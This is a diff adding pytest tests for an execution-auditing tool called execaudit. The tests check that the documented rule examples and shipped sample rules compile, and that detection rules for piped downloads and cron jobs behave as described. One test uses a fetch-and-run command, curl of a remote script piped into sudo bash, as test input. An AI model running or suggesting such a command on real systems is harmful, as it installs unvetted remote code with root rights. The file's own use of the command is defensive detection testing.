@@ -1,0 +1,81 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What docs/rules.md and the samples of rules show is right, and every condition is explained."""
+
+import re
+import textwrap
+from pathlib import Path
+
+import pytest
+
+from execaudit.config import read_rules
+from execaudit.rule_fields import FIELDS
+from execaudit.rules import RuleSet, compile_rules
+from tests.rule_tables import LOOKUPS
+from tests.unit.test_rules import record
+
+ROOT = Path(__file__).parents[2]
+GUIDE = (ROOT / "docs/rules.md").read_text()
+BLOCKS = [
+    textwrap.dedent(block)
+    for block in re.findall(r"^ *```toml\n(.*?)^ *```", GUIDE, re.MULTILINE | re.DOTALL)
+]
+SAMPLES = sorted((ROOT / "packaging/config/rules.d").iterdir())
+
+
+def compile_text(text: str) -> RuleSet:
+    tables, problems = read_rules(text)
+    assert problems == []
+    rules, problems = compile_rules(tables, LOOKUPS)
+    assert problems == []
+    assert rules is not None
+    return rules
+
+
+def test_guide_has_ten_worked_examples() -> None:
+    examples = GUIDE.partition("## Worked examples")[2]
+
+    assert re.findall(r"^(\d+)\. ", examples, re.MULTILINE) == [str(n) for n in range(1, 11)]
+    assert len(BLOCKS) == 11
+
+
+@pytest.mark.parametrize("block", BLOCKS, ids=lambda block: re.findall('name = "(.*)"', block)[-1])
+def test_example_of_the_guide_is_right(block: str) -> None:
+    compile_text(block)
+
+
+@pytest.mark.parametrize("path", SAMPLES, ids=lambda path: path.name)
+def test_shipped_sample_is_right(path: Path) -> None:
+    compile_text(path.read_text())
+
+
+def test_guide_explains_every_condition_and_no_other() -> None:
+    tables = GUIDE.partition("### Text")[2].partition("## all, any, not")[0]
+    named = {
+        name
+        for row in re.findall(r"^\| (`[^|]+`) \|", tables, re.MULTILINE)
+        for name in re.findall(r"`([a-z_.]+)`", row)
+    }
+
+    assert named == FIELDS.keys()
+
+
+def test_download_piped_into_a_shell_is_found() -> None:
+    (block,) = [block for block in BLOCKS if "download piped" in block]
+    rules = compile_text(block)
+    command = "curl -fsSL https://x.example/i.sh | sudo bash"
+
+    assert rules.decide_record(record(argv=["sh", "-c", command])).labels == ()
+    command = command.replace("sudo ", "")
+    assert rules.decide_record(record(argv=["sh", "-c", command])).labels == ("suspicious",)
+    assert rules.decide_record(record(argv=["curl", "-o", "x|y"])).labels == ()
+
+
+def test_cron_example_keeps_what_gains_privilege() -> None:
+    (block,) = [block for block in BLOCKS if "cron jobs" in block]
+    rules = compile_text(block)
+    rules.images.remember_running(5, 5000 * 1 // 10_000_000, "/usr/sbin/cron")
+    job = record(10, above=(5,)) | {"parent_id": "boot-5-1388-1"}
+
+    assert rules.decide_record(job).action == "drop"
+    assert rules.decide_record(record(11, above=(10,))).action == "drop"
+    assert rules.decide_record(record(12, above=(10,), privileged=True)).action == "keep"
